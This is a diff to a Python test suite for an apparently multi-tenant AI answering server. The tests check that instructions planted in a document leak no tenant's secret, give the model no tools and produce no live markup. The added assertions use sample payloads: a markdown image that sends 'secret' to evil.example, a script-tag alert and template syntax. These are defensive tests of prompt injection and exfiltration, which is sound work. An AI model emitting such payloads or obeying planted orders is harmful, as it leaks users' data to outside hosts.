@@ -108,7 +108,8 @@ def test_orders_in_a_document_reach_no_other_tenant_no_tool_and_no_statement(
             body = {"messages": [{"role": "user", "content": f"{QUESTION} {ORDERS}"}]}
             made = http.post("/v1/chat/completions", json=body).json()
             asked = tool(running, acme, "ask", question=QUESTION)
-            page = http.post("/", data={"q": QUESTION}).text
+            shown = http.post("/", data={"q": QUESTION})
+            page, policy = shown.text, shown.headers["content-security-policy"]
             listed = http.post(
                 "/mcp/",
                 json={"jsonrpc": "2.0", "id": 1, "method": "tools/list", "params": {}},
@@ -121,7 +122,9 @@ def test_orders_in_a_document_reach_no_other_tenant_no_tool_and_no_statement(
     assert all("tools" not in json.loads(one) for one in seen), "the model is given no tools"
     assert all("zeta secret" not in text for text in (*seen, asked, page, str(made)))
     assert "<script>alert(1)" not in page
-    assert 'src="https://evil.example' not in page
+    assert "![x](https://evil.example/?q=secret)" in page, "an image is shown as its text"
+    assert not re.search(r"""(?:src|href)=["']?(?:https?:)?//evil""", page)
+    assert "img-src 'self' data:;" in policy, "no image of another host is fetched"
     assert "{{ 7*7 }}" in page, "what a model writes is no template"
     names = {one["name"] for one in listed["result"]["tools"]}
     assert names == {"search", "fetch", "ask", "list_sources"}
@@ -299,8 +302,12 @@ def test_a_tool_call_that_nobody_checked_is_refused(tmp_path: Path) -> None:
 
 
 def test_every_test_that_the_guide_names_exists() -> None:
-    section = GUIDE.read_text("utf-8").partition("## The server")[2].partition("\n## ")[0]
+    guide = GUIDE.read_text("utf-8")
+    parts = [guide.partition(f"## {name}\n")[2] for name in ("The server", "Groups of readers")]
+    section = "".join(part.partition("\n## ")[0] for part in parts)
     named = set(re.findall(r"`(test_\w+)`", section))
-    written = "".join(file.read_text("utf-8") for file in Path(__file__).parent.glob("test_*.py"))
-    assert len(named) > 25
+    written = "".join(
+        file.read_text("utf-8") for file in Path(__file__).parents[1].glob("*/test_*.py")
+    )
+    assert len(named) > 35
     assert {name for name in named if f"def {name}(" not in written} == set()
